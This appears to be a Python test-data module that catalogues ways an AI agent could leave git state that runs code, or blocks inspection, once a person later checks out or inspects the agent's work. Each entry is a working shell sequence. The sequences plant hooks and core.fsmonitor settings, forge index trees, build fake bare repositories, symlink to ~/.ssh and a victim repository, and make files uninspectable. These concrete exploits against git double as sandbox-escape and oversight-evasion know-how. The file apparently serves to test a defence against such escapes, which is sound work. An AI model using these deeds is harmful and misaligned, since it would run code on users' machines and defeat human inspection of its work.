"""Deeds that stay invisible until the person checks out what an agent left in the index, and deeds by which an agent
keeps its files from being inspected."""

from escape.left_behind import Deed

_STAGE = 'stage() { git update-index --add --cacheinfo "$1,$(git hash-object -w --stdin),$2"; }; '
_EVIL_SETTINGS = "printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tworktree = .\\n\\tfsmonitor = %s\\n' $PWD/x.sh"
_HOOK = "printf '#!/bin/sh\\ntouch %s\\n' $MARK"
_STEPS = (
    "for i in 1 2 3; do echo $i > n$i; git add n$i; git commit -qm n$i; done;"
    ' GIT_SEQUENCE_EDITOR="sed -i 1s/^pick/edit/" git rebase -q -i HEAD~2; evil x.sh;'
    " echo exec $PWD/x.sh > .git/rebase-merge/git-rebase-todo; "
)
# Has the index say that its entries make a tree with another hook.
_OTHER_TREE = """
import subprocess, sys, time
def git(*words, **more): return subprocess.run(("git", *words), check=True, stdout=-1, **more).stdout.decode().strip()
hooks = git("rev-parse", "HEAD:.githooks")
blob = git("hash-object", "-w", sys.argv[1])
other = git("mktree", input=f"100755 blob {blob}\\tpost-checkout\\n".encode())
top = git("ls-tree", "HEAD").replace(hooks, other)
tree = git("mktree", input=f"{top}\\n".encode())
open("README", "a").write("more")
git("read-tree", "HEAD")
if sys.argv[2:]:  # no entry is younger than the index, so that none has to be written twice
    time.sleep(1.1)
    subprocess.run(("git", "update-index", "-q", "--refresh"))
    git("update-index", "--split-index"), git("write-tree")
with open(".git/index", "r+b") as file:
    content = file.read()
    assert b"TREE" in content and (b"link" in content) == (len(sys.argv) > 2)
    for one, another in ((git("rev-parse", "HEAD^{tree}"), tree), (hooks, other)):
        content = content.replace(bytes.fromhex(one), bytes.fromhex(another))
    import hashlib
    file.seek(0); file.write(content[:-20] + hashlib.sha1(content[:-20]).digest())
"""
_OF_A_CHECKOUT = ("checkout", "commit", "status", "checkout")

THROUGH_THE_INDEX = {
    "a hook, in a git folder of another name": Deed(
        f"{_STAGE}{_HOOK} | stage 100755 gitdir/hooks/post-checkout", layout="git folder in its worktree",
        commands=_OF_A_CHECKOUT,
    ),
    "settings, in a bare repository of the host's": Deed(
        f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 mirror.git/config", layout="bare one inside",
        where=(".", "mirror.git"), commands=_OF_A_CHECKOUT,
    ),
    "a bare repository": Deed(
        f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 docs/config; echo ref: refs/heads/main | stage 100644"
        " docs/HEAD; echo | stage 100644 docs/objects/x; echo | stage 100644 docs/refs/x",
        where=(".", "docs"), commands=_OF_A_CHECKOUT,
    ),
    "a bare repository of which a part is there": Deed(
        f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 docs/config; echo ref: refs/heads/main | stage 100644"
        " docs/HEAD; mkdir -p docs/objects docs/refs",
        where=(".", "docs"), commands=_OF_A_CHECKOUT,
    ),
    "a bare repository, of which another launch makes a part": Deed(
        (
            f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 docs/config; echo | stage 100644 docs/objects/x;"
            " echo | stage 100644 docs/refs/x",
            "mkdir -p docs; echo ref: refs/heads/main > docs/HEAD",
        ),
        where=(".", "docs"), commands=_OF_A_CHECKOUT,
    ),
    "a bare repository, in a split index": Deed(
        f"{_STAGE}evil x.sh; {_EVIL_SETTINGS} | stage 100644 docs/config; echo | stage 100644 docs/objects/x;"
        " echo | stage 100644 docs/refs/x; git update-index --split-index;"
        " echo ref: refs/heads/main | stage 100644 docs/HEAD",
        where=(".", "docs"), commands=_OF_A_CHECKOUT,
    ),
    "a hook, where the settings look for hooks, in a split index": Deed(
        f"{_STAGE}git update-index --split-index; {_HOOK} | stage 100755 .githooks/post-checkout",
        layout="hooks in the worktree", commands=_OF_A_CHECKOUT,
    ),
    "a hook, where the settings look for hooks, in a worktree": Deed(
        f"{_STAGE}cd w; {_HOOK} | stage 100755 .githooks/post-checkout", layout="hooks in the worktree",
        where=("w",), commands=_OF_A_CHECKOUT,
    ),
    "a hook, where the settings look for hooks, by a new repository around it": Deed(
        f"{_STAGE}cd tools; git init -q .; {_HOOK} | stage 100755 hooks/post-index-change; touch ../README",
        layout="hooks deep in the worktree", where=("tools", "."), commands=("status", "checkout"),
    ),
    "a link, in the place of a folder with hooks": Deed(
        f"{_STAGE}evil other/hooks/post-checkout; git rm -rq --cached tools; printf other | stage 120000 tools",
        layout="hooks deep in the worktree", commands=_OF_A_CHECKOUT,
    ),
    "a tree that is not that of its entries": Deed(
        f"evil x.sh; python3 -I -c '{_OTHER_TREE}' $PWD/x.sh", layout="hooks in the worktree",
        commands=("stash",), wrong="grep -q x.sh .githooks/post-checkout || grep -q touch .githooks/post-checkout",
    ),
    "a tree that is not that of its entries, in a split index": Deed(
        f"evil x.sh; python3 -I -c '{_OTHER_TREE}' $PWD/x.sh split", layout="hooks in the worktree",
        commands=("commit",), wrong="git show HEAD:.githooks/post-checkout | grep -q touch",
    ),
    "a hook, where the settings look for hooks": Deed(
        f"{_STAGE}{_HOOK} | stage 100755 .githooks/post-checkout", layout="hooks in the worktree",
        commands=_OF_A_CHECKOUT,
    ),
}  # fmt: skip
WORKTREES = {
    "a nested repository's, in .git": Deed(
        "git init -q n; cd n; evil hooks/post-checkout; git add hooks; git commit -qm x; rm -r hooks;"
        " git config core.worktree ../../.git",
        where=("n", "."), commands=_OF_A_CHECKOUT,
    ),
    "a nested repository's, in a bare one": Deed(
        "git init -q n; cd n; evil hooks/post-checkout; git add hooks; git commit -qm x; rm -r hooks;"
        " echo gitdir: ../n/.git > ../mirror.git/.git; git config core.worktree ../../mirror.git",
        layout="bare one inside", where=("n",), commands=_OF_A_CHECKOUT, wrong="test -e mirror.git/hooks/post-checkout",
    ),
    "a new worktree's, in .git": Deed(
        "git worktree add -q w -b w; cd w; evil hooks/post-checkout; git add hooks; rm -r hooks;"
        " git config extensions.worktreeConfig true; printf '[core]\\n\\tworktree = ../..\\n' >"
        " ../.git/worktrees/w/config.worktree",
        where=("w", "."), commands=_OF_A_CHECKOUT,
    ),
    "a nested repository's, behind a link to come": Deed(
        f"{_STAGE}git init -q n; cd n; echo mine > config; git add config; git commit -qm x; rm config;"
        ' git config core.worktree ../../link; cd ..; printf %s "$H/.ssh" | stage 120000 link',
        where=(".", "n"), commands=("checkout",),
    ),
}  # fmt: skip
UPWARDS = {
    "core.worktree, behind a link to come": Deed(
        f"{_STAGE}git init -q .ssh; mkdir y; touch y/k; cd .ssh; echo mine > config; git add config; git commit -qm x;"
        ' rm config; git config core.worktree ../../y/../.ssh; cd ..; printf %s "$H/victim" | stage 120000 y',
        where=(".", ".ssh"), commands=("checkout",),
    ),
    "core.worktree, behind a link of the next launch": Deed(
        (
            "git init -q .ssh; mkdir y; touch y/k; cd .ssh; echo mine > config; git add config; git commit -qm x;"
            " rm config; git config core.worktree ../../y/../.ssh",
            'rm -r y; ln -s "$H/victim" y',
        ),
        where=(".ssh",), commands=("checkout",),
    ),
    "a pointer, behind a link of the next launch": Deed(
        (
            "git init -q x; evil x.sh; mkdir -p .git/modules .git/lfs/e/deep .git/lfs/e/.git/modules y; touch y/k;"
            " cp -r x/.git .git/lfs/e/.git/modules/n; mv x/.git .git/modules/n; git config -f"
            " .git/lfs/e/.git/modules/n/config core.fsmonitor $PWD/x.sh; echo gitdir: ../y/../.git/modules/n > x/.git",
            "rm -r y; ln -s .git/lfs/e/deep y",
        ),
        where=("x",), commands=("status",),
    ),
    "a pointer to a repository whose worktree is elsewhere": Deed(
        (
            "git init -q y/package; cd y/package; echo mine > module.py; git add module.py; git commit -qm x; rm module.py; cd ../..;"
            " mkdir -p .git/modules x; mv y/package/.git .git/modules/n; echo gitdir: ../../.git/modules/n > y/package/.git;"
            " git --git-dir=.git/modules/n config core.worktree ../../../y/package; echo gitdir: ../.git/modules/n > x/.git",
            'rm -rf y; mkdir y2; ln -s "$H/victim" y',
        ),
        where=("x",), commands=("checkout",),
    ),
}  # fmt: skip
UNNAMED = {
    "a repository among the files of git-lfs, behind a link": Deed(
        "git init -q t; evil x.sh; mkdir -p .git/lfs; mv t .git/lfs/x; git -C .git/lfs/x config core.fsmonitor $PWD/x.sh;"
        " ln -s .git/lfs/x x",
        where=("x",), commands=("status",),
    ),
    "a submodule that names no worktree": Deed(
        f"{_STAGE}git init -q n; evil x.sh; mkdir -p .git/modules; cd n; git commit -q --allow-empty -m x; mkdir -p"
        " e/objects e/refs; cd ..; X=$PWD/x.sh; cd n; printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n"
        "\tworktree = .\n\tfsmonitor = %s\n' $X | stage 100644 e/config; echo ref: refs/heads/main | stage 100644"
        " e/HEAD; cd ..; mv n/.git .git/modules/n; echo gitdir: ../.git/modules/n > n/.git",
        where=("n", "n/e"), commands=("checkout", "status"),
    ),
    "a stash, without a merge, for the next commit": Deed(
        f"{_STAGE}{_HOOK} | stage 100755 .githooks/post-commit; echo more >> README;"
        " git rev-parse HEAD >/dev/null; c=$(git stash create); git rm -q --cached .githooks/post-commit;"
        " git checkout -q .; echo $c > .git/MERGE_AUTOSTASH",
        layout="hooks in the worktree", commands=("commit",), wrong="test -e .githooks/post-commit",
    ),
    "a stash, with a merge that another launch takes away": Deed(
        (
            f"{_STAGE}{_HOOK} | stage 100755 .githooks/post-commit; echo more >> README; c=$(git stash create);"
            " git rm -q --cached .githooks/post-commit; git checkout -q .; echo $c > .git/MERGE_AUTOSTASH;"
            " git rev-parse HEAD > .git/MERGE_HEAD; echo m > .git/MERGE_MSG; : > .git/MERGE_MODE",
            "rm .git/MERGE_HEAD .git/MERGE_MSG .git/MERGE_MODE",
        ),
        layout="hooks in the worktree", commands=("commit",), wrong="test -e .githooks/post-commit",
    ),
    "objects from a folder that another launch makes a link": Deed(
        (
            "mkdir -p y/objects; git init -q n; echo ../../../y/objects > n/.git/objects/info/alternates",
            "rmdir y/objects y; ln -s $H/victim/.git y",
        ),
        where=("n",), commands=("status",),
        wrong="git -C n cat-file -e $(git -C $H/victim rev-parse HEAD:package/module.py)",
    ),
    "a record of conflicts behind a link that is there": Deed(
        f"{_STAGE}k={'a' * 40}; mkdir -p .git/rr-cache/$k; echo > .git/rr-cache/$k/preimage; ln -s $H/.ssh link;"
        " printf '%s\\tlink/config\\0' $k > .git/MERGE_RR; echo x | stage 100644 link/config",
        commands=("commit",), wrong="grep -q Host .git/rr-cache/*/postimage",
    ),
}  # fmt: skip
LINKS_TO_COME = {
    "a pointer": Deed(
        f"{_STAGE}evil x.sh; git init -q t; mkdir -p .git/lfs; mv t/.git .git/lfs/.git; rmdir t;"
        " git --git-dir=.git/lfs/.git config core.fsmonitor $PWD/x.sh; git --git-dir=.git/lfs/.git config core.bare false;"
        " mkdir x; echo gitdir: ../link/.git > x/.git; printf .git/lfs | stage 120000 link",
        where=(".", "x"), commands=("checkout", "status"),
    ),
    "a record of conflicts": Deed(
        f"{_STAGE}k={'a' * 40}; mkdir -p .git/rr-cache/$k; echo > .git/rr-cache/$k/preimage;"
        " printf '%s\\tlink/config\\0' $k > .git/MERGE_RR; printf %s \"$H/.ssh\" | stage 120000 link",
        commands=("checkout", "commit"), wrong="grep -q Host .git/rr-cache/*/postimage",
    ),
}  # fmt: skip
UNINSPECTED = {
    "a git folder that cannot be listed": Deed(f"{_STEPS}chmod 0333 .git", commands=("rebase",)),
    "a project that cannot be listed": Deed(
        "git init -q n; evil x.sh; git -C n config core.fsmonitor $PWD/x.sh; chmod 0333 .", where=("n",),
        commands=("status",),
    ),
    "a project in which nothing can be renamed": Deed(
        "git init -q n; evil x.sh; git -C n config core.fsmonitor $PWD/x.sh; mkdir -p n/.git/lfs/g/objects"
        " n/.git/lfs/g/refs; cp n/.git/HEAD n/.git/config n/.git/lfs/g; mkdir sub; echo gitdir: ../n/.git/lfs/g > sub/.git;"
        " chmod 0555 sub",
        where=("sub",), commands=("status",),
    ),
    "options for a strategy that are judged for ever": Deed(
        'mkdir .git/rebase-merge; for i in $(seq 60); do printf "ours\'"; done > .git/rebase-merge/strategy_opts;'
        " echo x >> .git/rebase-merge/strategy_opts; git init -q n; evil x.sh; git -C n config core.fsmonitor $PWD/x.sh",
        where=("n",), commands=("status",),
    ),
    "heads that are judged for ever": Deed(
        "head -c 6000 /dev/zero | tr '\\0' a > .git/MERGE_HEAD; echo x >> .git/MERGE_HEAD; git init -q n; evil x.sh;"
        " git -C n config core.fsmonitor $PWD/x.sh",
        where=("n",), commands=("status",),
    ),
    "packs that are deleted elsewhere": Deed(
        "git repack -adq; echo 1 > n1; git add n1; git commit -qm n1; git repack -dq; git multi-pack-index write;"
        ' f=.git/objects/pack/multi-pack-index; chmod u+w $f; sed -i "s#pack-#../../x/#" $f',
        commands=("status",), wrong="grep -q ../../x/ .git/objects/pack/multi-pack-index",
    ),
}  # fmt: skip
CHECKOUTS = {
    f"{what}: {name}": deed
    for what, deeds in {
        "through the index": THROUGH_THE_INDEX,
        "a worktree": WORKTREES,
        "upwards": UPWARDS,
        "unnamed": UNNAMED,
        "behind a link to come": LINKS_TO_COME,
        "uninspected": UNINSPECTED,
    }.items()
    for name, deed in deeds.items()
}
